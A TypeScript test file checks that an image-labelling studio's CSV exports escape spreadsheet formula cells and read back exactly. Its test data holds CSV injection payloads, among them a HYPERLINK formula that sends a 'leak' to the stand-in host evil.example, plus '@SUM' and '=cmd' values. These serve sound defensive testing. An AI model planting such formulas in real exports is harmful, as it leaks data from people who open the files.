// CSV files the studio writes are safe to open in a spreadsheet (issue 19, item 5): a class
// name, group value, path or predicted label starting with =, +, -, @, tab or CR reached the
// file as it was, so `=HYPERLINK("http://…","click")` ran as a formula. Such cells now carry a
// leading ', and the studio's own reader takes it off again, so export then import is still
// exact, for values that themselves start with ' too.
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import sharp from 'sharp';
import { formatCsv, parseCsv } from '../../src-main/services/curation/algorithms/labels-csv';
import { predictionsCsv } from '../../src-main/cli/predict-folder';
import * as labels from '../../src-main/services/labels/labels';
import { Studio } from '../../src-main/services/studio';
import { seededRandom } from '../../src-shared/random';

const dirs: string[] = [];
after(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));
const temp = (p: string) => (dirs.push(mkdtempSync(join(tmpdir(), `studio-${p}-`))), dirs.at(-1)!);

const FORMULA = /^[=+\-@\t\r]/;
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click")';
/** Values a spreadsheet would run, and values that look like the escape itself. */
const TRICKY = [HYPERLINK, '-x', '+1', '@SUM(A1)', '\tcmd', "'=y", "''", "'", "'plain", "''-z", '=1+2', '-', 'a=b'];

/** The cells as a spreadsheet sees them: RFC 4180 only, nothing taken off. */
const rawCells = (text: string): string[][] => parse(text, { relax_column_count: true });

/** No cell a spreadsheet reads starts a formula. */
function assertSafe(text: string): void {
  for (const [r, row] of rawCells(text).entries()) {
    for (const cell of row)
      assert.doesNotMatch(cell, FORMULA, `row ${r + 1}: ${JSON.stringify(cell)} would run as a formula`);
  }
}

test('formatCsv guards every formula cell, and parseCsv gives 2,000 generated fields back exactly', () => {
  const random = seededRandom(19);
  const pieces = [...TRICKY, ' ', ',', '"', '\n', 'é', "'", '='];
  const field = () =>
    Array.from({ length: 1 + Math.floor(random() * 4) }, () => pieces[Math.floor(random() * pieces.length)]).join('');
  const rows = [TRICKY, ...Array.from({ length: 400 }, () => Array.from({ length: 5 }, field))];
  const text = formatCsv(rows);
  assertSafe(text);
  assert.equal(rawCells(text)[0]![0], `'${HYPERLINK}`);
  assert.equal(rawCells(text)[0]![8], "'plain", 'a leading quote guarding nothing is written as it is');
  assert.deepEqual(
    parseCsv(text).map((r) => r.fields),
    rows,
  );
});

test("predict's CSV guards class names and paths, and reads back to them", () => {
  const classes = [HYPERLINK, '-x', "'=y"];
  const rows = [
    { path: '/data/=cmd.png', predicted: HYPERLINK, confidence: 0.9, probs: [0.9, 0.05, 0.05] },
    { path: '/data/b.png', predicted: "'=y", confidence: 0.5, probs: [0.25, 0.25, 0.5] },
  ];
  const text = predictionsCsv(classes, rows);
  assertSafe(text);
  const back = parseCsv(text).map((r) => r.fields);
  assert.deepEqual(back[0], ['path', 'predicted', 'confidence', ...classes]);
  assert.deepEqual(
    back.slice(1).map((r) => r.slice(0, 2)),
    rows.map((r) => [r.path, r.predicted]),
  );
});

describe('a project whose class names and groups are formulas', () => {
  let studio: Studio;
  const db = () => studio.project!.db;
  const state = () =>
    db()
      .prepare(
        'SELECT i.id, c.name AS label, i.split, i.group_key AS g FROM images i LEFT JOIN classes c ON c.id = i.class_id ORDER BY i.id',
      )
      .all();

  before(async () => {
    const data = temp('formula-data');
    mkdirSync(join(data, 'in'));
    // A file name a spreadsheet would run too (paths are cells like any other).
    const names = ['=cmd.png', '-dash.png', '@at.png', 'plain.png', "'quote.png", 'x.png'];
    for (const [i, name] of names.entries()) {
      await sharp({
        create: { width: 8, height: 8, channels: 3, background: { r: 40 * i, g: 200 - 30 * i, b: 9 * i } },
      })
        .png()
        .toFile(join(data, 'in', name));
    }
    studio = new Studio();
    studio.open({ path: temp('formula-project'), create: true });
    await studio.handlers().folders.pick({ path: data });
    await studio.handlers().imports.start({ folder: data });
    await studio.idle();
  });
  after(() => studio.close());

  test('the labels export holds no formula, and importing it restores every label, split and group', async () => {
    const ids = (db().prepare('SELECT id FROM images ORDER BY id').all() as { id: number }[]).map((r) => r.id);
    assert.equal(ids.length, 6);
    const names = [HYPERLINK, '-x', "'=y", '+1', '@cmd', "'plain"];
    const classIds = names.map((name, i) => labels.createClass(db(), name, undefined, 10 + i).classId);
    ids.forEach((id, i) => {
      labels.assignLabel(db(), [id], classIds[i]!, 20 + i);
      labels.setSplits(
        db(),
        [{ imageId: id, split: (['train', 'val', 'test'] as const)[i % 3], groupKey: TRICKY[i + 5] ?? null }],
        30 + i,
        'test',
      );
    });
    const want = state();
    const out = temp('formula-csv');
    await studio.handlers().folders.pick({ path: out });
    const file = join(out, 'labels.csv');
    const api = studio.handlers().curation;
    assert.equal((await api.exportCsv({ file })).rows, 6);
    const text = readFileSync(file, 'utf8');
    assertSafe(text);
    assert.ok(text.includes(`"'=HYPERLINK(""http://evil.example/?leak"",""click"")"`), text);
    assert.equal((await api.importCsv({ file })).changed, 0, 'an unchanged project reads back unchanged');
    labels.assignLabel(db(), ids, null, 40);
    labels.setSplit(db(), ids, null, 41);
    assert.equal((await api.importCsv({ file })).changed, 6);
    assert.deepEqual(state(), want);
  });
});
